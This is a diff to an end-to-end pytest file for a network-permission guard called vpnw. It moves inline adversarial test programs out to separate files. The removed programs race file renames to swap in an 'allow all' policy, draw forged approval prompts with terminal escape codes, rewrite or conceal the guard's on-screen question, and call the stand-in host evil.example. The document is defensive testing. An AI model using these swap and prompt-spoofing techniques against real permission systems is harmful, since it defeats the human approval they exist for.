@@ -40,7 +40,9 @@ from pathlib import Path
 
 import pytest
 
-from test_e2e_ask import SYSTEM_PYTHON, _wait, decisions, records
+from e2e_support import wait_until
+from progs_support import prog_text
+from test_e2e_ask import SYSTEM_PYTHON, decisions, records
 
 pytestmark = pytest.mark.world
 
@@ -88,58 +90,7 @@ def scopes(events) -> list[tuple]:
 # every name that appears there, while the person is asked; then writes
 # the policy itself. argv: flag file that ends the watch, then a URL to
 # fetch (none: the control, outside).
-SWAP = r'''
-import ctypes, os, struct, sys, threading, time, urllib.request
-EVIL = 'version = 1\n[policy]\ndefault = "allow"\n'
-libc = ctypes.CDLL(None, use_errno=True)
-fd = libc.inotify_init1(os.O_NONBLOCK)
-libc.inotify_add_watch(fd, b".", 0x100 | 0x80)          # IN_CREATE | IN_MOVED_TO
-print("swap: watching", flush=True)
-saw, swapped = [], []
-stop = sys.argv[1]
-ours = {"agent.toml", os.path.basename(stop)}
-def watch():
-    n = 0
-    while not os.path.exists(stop):
-        try:
-            data = os.read(fd, 65536)
-        except BlockingIOError:
-            time.sleep(0.0005)
-            continue
-        i = 0
-        while i < len(data):
-            _wd, _mask, _cookie, size = struct.unpack_from("iIII", data, i)
-            name = data[i + 16:i + 16 + size].rstrip(b"\0").decode()
-            i += 16 + size
-            if name.startswith("evil-") or name in ours or name in swapped:
-                continue
-            saw.append(name)
-            n += 1
-            mine = f"evil-{n}"
-            with open(mine, "w") as f:
-                f.write(EVIL)
-            try:
-                os.rename(mine, name)
-                swapped.append(name)
-            except OSError:
-                os.unlink(mine)
-t = threading.Thread(target=watch)
-t.start()
-if len(sys.argv) > 2:
-    try:
-        with urllib.request.urlopen(sys.argv[2], timeout=120) as r:
-            print("swap: fetched", r.status, flush=True)
-    except Exception as exc:
-        print("swap: refused", getattr(exc, "code", exc), flush=True)
-t.join()
-try:
-    with open("agent.toml", "a") as f:
-        f.write('\n# the program was here\n')
-    print("direct: written", flush=True)
-except OSError as exc:
-    print("direct: error", exc.errno, flush=True)
-print(f"swap: saw {saw} swapped {swapped}", flush=True)
-'''
+SWAP = prog_text("channel_swap.py")
 
 
 def test_the_write_back_passes_through_no_name_the_program_can_swap(world, user, term):
@@ -154,7 +105,7 @@ def test_the_write_back_passes_through_no_name_the_program_can_swap(world, user,
     term.wait_for(r"^swap: watching")
     temp = term.work / ".vpnw-control.toml"
     temp.write_text(path.read_text())
-    _wait(lambda: 'default = "allow"' in temp.read_text())
+    wait_until(lambda: 'default = "allow"' in temp.read_text(), 60)
     stop.touch()
     assert term.finished(mark) == 0
     term.wait_for(r"^direct: written", whole=True)
@@ -191,23 +142,7 @@ def test_the_write_back_passes_through_no_name_the_program_can_swap(world, user,
 # Draws two copies of a question of vpnw's for pypi.world, the old form and
 # the new one with a code of its own guess (argv), then asks for
 # evil.example: vpnw's own question for it opens below them.
-SPOOF = r'''
-import sys, urllib.request
-guess = sys.argv[1]
-sys.stdout.write("\x1b[2J\x1b[H")
-sys.stdout.write('vpnw: asks: pypi.world:80 (http door) is not allowed by the policy; allow '
-                 '"pypi.world:80"? Ctrl-] then y: allow once · a: allow always · n: deny · '
-                 'd: deny always; denied in 60 s\r\n')
-sys.stdout.write(f"vpnw: asks {guess}: pypi.world:80 (http door) is not in the policy. "
-                 f"Ctrl-] {' '.join(guess)} then y: allow now · r: this run · a: always · "
-                 f"n: deny · d: deny always (h first: any port); denied in 60 s\r\n")
-sys.stdout.flush()
-try:
-    with urllib.request.urlopen("http://evil.example/whoami", timeout=120) as r:
-        print("spoof: evil fetched", r.status, flush=True)
-except Exception as exc:
-    print("spoof: evil refused", getattr(exc, "code", exc), flush=True)
-'''
+SPOOF = prog_text("channel_spoof.py")
 
 
 def test_a_question_the_program_draws_obtains_no_approval(world, user, term):
@@ -241,24 +176,7 @@ def test_a_question_the_program_draws_obtains_no_approval(world, user, term):
 # asks for evil.example in a thread and, once the question is up, rewrites
 # row 2 from column 16 on: vpnw's code (columns 12-13) stays, the host and
 # the rest become pypi.world's. argv: the file it touches once it has written.
-EDIT = r'''
-import os, sys, threading, time, urllib.request
-def fetch():
-    try:
-        with urllib.request.urlopen("http://evil.example/whoami", timeout=120) as r:
-            print("edit: evil fetched", r.status, flush=True)
-    except Exception as exc:
-        print("edit: evil refused", getattr(exc, "code", exc), flush=True)
-sys.stdout.write("\x1b[2J\x1b[Hedit: ready\r\n")
-sys.stdout.flush()
-t = threading.Thread(target=fetch)
-t.start()
-time.sleep(2.0)
-sys.stdout.write("\x1b[2;16Hpypi.world:80 (http door) is not in the policy (edited)\x1b[K\r\n")
-sys.stdout.flush()
-open(sys.argv[1], "w").close()
-t.join()
-'''
+EDIT = prog_text("channel_edit.py")
 
 
 def test_the_program_cannot_edit_the_question_while_it_is_open(world, user, term):
@@ -267,7 +185,7 @@ def test_the_program_cannot_edit_the_question_while_it_is_open(world, user, term
     edited = term.work / "edited"
     mark = guard(term, path, edit, str(edited))
     code = code_of(term, r"evil\.example:80")
-    _wait(edited.exists)
+    wait_until(edited.exists, 60)
     time.sleep(1.0)                 # what the program wrote would be on the screen by now
     row = next(line for line in term.screen().splitlines() if f"asks {code}:" in line
                or line.startswith("vpnw: asks"))
@@ -287,18 +205,7 @@ def test_the_program_cannot_edit_the_question_while_it_is_open(world, user, term
 # screen and exits leaving conceal, insert mode, autowrap off, application
 # cursor keys and keypad set. argv: the file whose existence says the DENY
 # line is on the screen (the control: no fetch, no wait).
-CONCEAL = r'''
-import os, sys, time, urllib.request
-if len(sys.argv) > 1:
-    try:
-        urllib.request.urlopen("http://evil.example/whoami", timeout=60)
-    except Exception as exc:
-        print("conceal: refused", getattr(exc, "code", exc), flush=True)
-    while not os.path.exists(sys.argv[1]):
-        time.sleep(0.05)
-sys.stdout.write("\x1b[2J\x1b[Hconceal: bye\r\n\x1b[8m\x1b[4h\x1b[?7l\x1b[?1h\x1b=")
-sys.stdout.flush()
-'''
+CONCEAL = prog_text("channel_conceal.py")
 
 _SGR = re.compile(r"\x1b\[([0-9;:]*)m")
 
@@ -340,7 +247,7 @@ def test_vpnw_lines_stay_readable_and_the_terminal_modes_go_back(world, user, te
                            "keypad_flag": "1"}
     assert concealed_at(_capture(term), "control-after")
     term.line(r"printf '\033[0m\033[4l\033[?7h\033[?1l\033>'; clear")
-    _wait(lambda: modes(term) == _PLAIN)
+    wait_until(lambda: modes(term) == _PLAIN, 60)
 
     drawn = term.work / "drawn"
     mark = term.start(f"{term.vpnw} guard --policy {path} -- {SYSTEM_PYTHON} {conceal} {drawn}")
@@ -369,18 +276,7 @@ def _capture(term) -> str:
 
 # Fetches its URLs one after the other (each a connection of its own);
 # https without checking the certificate (only the door's decision matters).
-SEQUENTIAL = r'''
-import ssl, sys, urllib.request
-ok = 0
-for url in sys.argv[1:]:
-    try:
-        with urllib.request.urlopen(url, timeout=120, context=ssl._create_unverified_context()) as r:
-            print(f"{url} -> {r.status}", flush=True)
-            ok += 1
-    except Exception as exc:
-        print(f"{url} -> error {getattr(exc, 'code', exc)}", flush=True)
-print(f"fetched {ok} of {len(sys.argv) - 1}", flush=True)
-'''
+SEQUENTIAL = prog_text("channel_sequential.py")
 
 
 def test_each_scope_holds_for_what_it_says(world, user, term, clean_dns):
